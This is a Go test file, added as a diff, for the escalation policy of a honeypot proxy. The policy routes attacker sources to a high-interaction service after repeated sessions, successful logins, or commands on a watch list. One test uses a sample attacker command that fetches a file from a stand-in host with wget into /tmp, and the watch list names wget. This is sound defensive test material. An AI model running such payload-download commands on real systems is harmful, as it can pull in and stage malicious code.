@@ -0,0 +1,96 @@
+package proxy
+
+import (
+	"fmt"
+	"testing"
+
+	"github.com/riotpot/pkg/events"
+	"github.com/riotpot/pkg/proxy"
+	"github.com/riotpot/pkg/service"
+	"github.com/riotpot/pkg/utils"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestEscalationSessions(t *testing.T) {
+	low := service.NewService("low", startServer(t, "low\n"), utils.TCP, "127.0.0.1", utils.Low)
+	high := service.NewService("high", startServer(t, "high\n"), utils.TCP, "127.0.0.1", utils.High)
+
+	port := freePort(t)
+	px, err := proxy.NewTCPProxy(port)
+	assert.NoError(t, err)
+
+	// The high interaction service goes first, the policy must still send new sources to the low one
+	px.SetService(high)
+	_, err = px.AddBackend(low, 1)
+	assert.NoError(t, err)
+
+	escalation := px.SetEscalation(proxy.NewEscalation(2, false, []string{}))
+	defer px.SetEscalation(nil)
+
+	assert.NoError(t, px.Start())
+	defer px.Stop()
+
+	// The source is escalated after the second session
+	assert.Equal(t, "low\n", readLine(t, port))
+	assert.Equal(t, "low\n", readLine(t, port))
+	assert.Equal(t, "high\n", readLine(t, port))
+
+	assert.True(t, escalation.IsEscalated("127.0.0.1:1234"))
+	assert.Equal(t, []string{"127.0.0.1"}, escalation.GetEscalated())
+}
+
+// Create a proxy with the policy, and a function to create the events of its sessions
+func escalationProxy(t *testing.T, escalation *proxy.Escalation) (func(events.Type, string) *events.Event, func()) {
+	px, err := proxy.NewTCPProxy(freePort(t))
+	assert.NoError(t, err)
+	px.SetEscalation(escalation)
+
+	event := func(typ events.Type, source string) *events.Event {
+		ev := events.NewEvent(typ, "SSH", source)
+		ev.Proxy = px.GetID()
+		return ev
+	}
+	return event, func() { px.SetEscalation(nil) }
+}
+
+func TestEscalationEvents(t *testing.T) {
+	escalation := proxy.NewEscalation(0, true, []string{"wget"})
+	event, cleanup := escalationProxy(t, escalation)
+	defer cleanup()
+
+	// Failed logins and harmless commands do not escalate the source
+	escalation.Send(event(events.AuthEvent, "198.51.100.1:4000").With("success", false))
+	escalation.Send(event(events.CommandEvent, "198.51.100.1:4000").With("command", "ls -la"))
+	assert.False(t, escalation.IsEscalated("198.51.100.1"))
+
+	escalation.Send(event(events.CommandEvent, "198.51.100.1:4000").With("command", "cd /tmp; wget http://example.com/x"))
+	assert.True(t, escalation.IsEscalated("198.51.100.1"))
+
+	escalation.Send(event(events.AuthEvent, "198.51.100.2:4000").With("success", true))
+	assert.True(t, escalation.IsEscalated("198.51.100.2"))
+
+	// The events that could not be related to the proxy, or that belong to another one, are ignored
+	ev := events.NewEvent(events.AuthEvent, "SSH", "198.51.100.3:4000")
+	escalation.Send(ev.With("success", true))
+	ev = event(events.AuthEvent, "198.51.100.4:4000")
+	ev.Proxy = "another"
+	escalation.Send(ev.With("success", true))
+
+	assert.Equal(t, []string{"198.51.100.1", "198.51.100.2"}, escalation.GetEscalated())
+}
+
+func TestEscalationLimit(t *testing.T) {
+	escalation := proxy.NewEscalation(0, true, []string{})
+	event, cleanup := escalationProxy(t, escalation)
+	defer cleanup()
+
+	// The oldest sources are forgotten when there are too many
+	for i := 0; i <= 10_000; i++ {
+		escalation.Send(event(events.AuthEvent, fmt.Sprintf("10.%d.%d.1:4000", i/256, i%256)).With("success", true))
+	}
+
+	assert.Len(t, escalation.GetEscalated(), 10_000)
+	assert.False(t, escalation.IsEscalated("10.0.0.1"))
+	assert.True(t, escalation.IsEscalated("10.0.1.1"))
+	assert.True(t, escalation.IsEscalated("10.39.16.1"))
+}